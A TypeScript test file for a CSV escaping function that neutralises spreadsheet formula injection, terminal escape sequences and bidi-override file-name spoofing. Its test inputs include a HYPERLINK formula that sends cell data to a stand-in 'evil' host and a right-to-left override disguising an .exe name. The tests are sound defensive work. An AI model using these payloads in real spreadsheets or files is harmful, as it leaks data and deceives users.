import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { csvText } from '../../src/base/csv-text.js'

describe('a text in CSV', () => {
  for (const [text, written] of [
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(1)', "'@SUM(1)"],
    ['＝1+1', "'＝1+1"],
    [' =1+1', " '=1+1"],
    ['\u00a0=1+1', "\u00a0'=1+1"],
    ['\u200b=1', "\u200b'=1"],
    ['\n=1+1', "\n'=1+1"],
    ['\t=1+1', "\t'=1+1"],
    ['"=1+1', `"'=1+1`],
    ['a;=HYPERLINK("http://evil/?"&A1)', `a;'=HYPERLINK("http://evil/?"&A1)`],
    ['a; \t=1;=2', "a; \t'=1;'=2"],
    ['a;"=1+1;b', `a;"'=1+1;b`],
    ['a\t=1+1', "a\t'=1+1"],
    ['a\n-1', "a\n'-1"],
    ['\r=1+1', '\\u000d=1+1'],
    ['\u001b[31mred\u001b]0;t\u0007', '\\u001b[31mred\\u001b]0;t\\u0007'],
    ['\u009b31m', '\\u009b31m'],
    ['\u202egnp.exe\u2066x\u061c', '\\u202egnp.exe\\u2066x\\u061c'],
    ['x\u2028y\u2029', 'x\\u2028y\\u2029'],
    // As it is: also what looks like a formula within a cell, several lines, and joiners of emoji and scripts.
    ['Tea = 2 + 2', 'Tea = 2 + 2'],
    ['a;b', 'a;b'],
    ['two\r\nlines\tand a tab', 'two\r\nlines\tand a tab'],
    ['two\r\n=1', "two\r\n'=1"],
    ["'=1", "'=1"],
    ['👨‍👩‍👧 می‌خواهم', '👨‍👩‍👧 می‌خواهم'],
    ['', ''],
  ] as const) {
    test(`${JSON.stringify(text)} is ${JSON.stringify(written)}`, () => {
      assert.equal(csvText(text), written)
    })
  }

  test('of any length takes no longer than it is long', () => {
    const blanks = '\t'.repeat(1_000_000)
    assert.equal(csvText(`${blanks}=`), `${blanks}'=`)
  })
})
